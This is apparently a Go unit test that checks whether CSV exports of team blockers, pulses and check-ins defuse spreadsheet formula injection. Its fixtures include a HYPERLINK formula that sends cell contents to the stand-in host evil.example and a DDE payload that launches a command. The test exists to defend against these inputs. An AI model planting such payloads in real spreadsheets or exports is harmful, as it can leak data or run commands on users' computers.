package logfile_test

import (
	"bytes"
	"encoding/csv"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/alignbot/alignbot/logfile"
	"github.com/alignbot/alignbot/rituals"
)

// formulas are cells people might type that a spreadsheet would run.
var formulas = []string{
	`=HYPERLINK("https://evil.example/?"&A1,"Click")`, "+1+2", "-2+3", "@SUM(A1:A9)",
	"\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0",
	"-5", // a negative number typed by a person is prefixed too, as is standard
}

// TestCSVExportsDefuseFormulas writes every CSV export with cells that
// start like formulas and checks that no cell of the files, read back as
// CSV, starts with a character a spreadsheet treats as a formula.
func TestCSVExportsDefuseFormulas(t *testing.T) {
	at := time.Date(2026, 11, 24, 9, 0, 0, 0, time.UTC)
	blockers := []*rituals.Blocker{}
	for i, f := range formulas {
		blockers = append(blockers, &rituals.Blocker{
			Team: "T1", Number: int64(i + 1), Channel: "C1", Status: rituals.BlockerResolved, Text: f, Impact: f,
			Reporter: "U1", ReporterName: f, Parties: []rituals.Party{{Kind: rituals.PartyUser, ID: "U2"}},
			Source: f, CreatedAt: at, ResolvedAt: at.Add(time.Hour), ResolvedBy: "U2", Resolution: f,
		})
	}
	p := &rituals.Pulse{Team: "T1", Number: 3, Series: 3, Run: 1, Channel: "C1", Question: formulas[0],
		Kind: rituals.PulseChoice, Options: formulas, Anonymous: false, Threshold: 3, Status: rituals.PulseClosed,
		SentAt: at, ClosedAt: at.Add(48 * time.Hour)}
	var answers []rituals.PulseAnswer
	for _, f := range formulas {
		answers = append(answers, rituals.PulseAnswer{Role: f, Value: f, User: "U1"})
	}
	report := rituals.BuildPulseReport(p, []rituals.PulseCount{{Role: formulas[3], Asked: 9}}, nil, answers, nil)
	checkins := []logfile.CheckinRecord{{Checkin: &rituals.Checkin{Team: "T1", Channel: "C1", ScheduledFor: at}}}

	for name, write := range map[string]func(*bytes.Buffer) error{
		"blockers": func(b *bytes.Buffer) error { return logfile.WriteBlockersCSV(b, blockers) },
		"pulses":   func(b *bytes.Buffer) error { return logfile.WritePulsesCSV(b, []*rituals.PulseReport{report}) },
		"checkins": func(b *bytes.Buffer) error { return logfile.WriteCheckinsCSV(b, checkins) },
	} {
		t.Run(name, func(t *testing.T) {
			var buf bytes.Buffer
			if err := write(&buf); err != nil {
				t.Fatal(err)
			}
			rows, err := csv.NewReader(&buf).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			defused := 0
			for _, row := range rows {
				for _, cell := range row {
					if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
						t.Errorf("cell %q would run as a formula", cell)
					}
					if strings.HasPrefix(cell, "'") {
						defused++
						if !slices.Contains(formulas, cell[1:]) {
							t.Errorf("cell %q was prefixed but is not one of the typed formulas", cell)
						}
					}
				}
			}
			if name != "checkins" && defused == 0 {
				t.Errorf("no cell of the %s export was defused:\n%q", name, rows)
			}
		})
	}
}
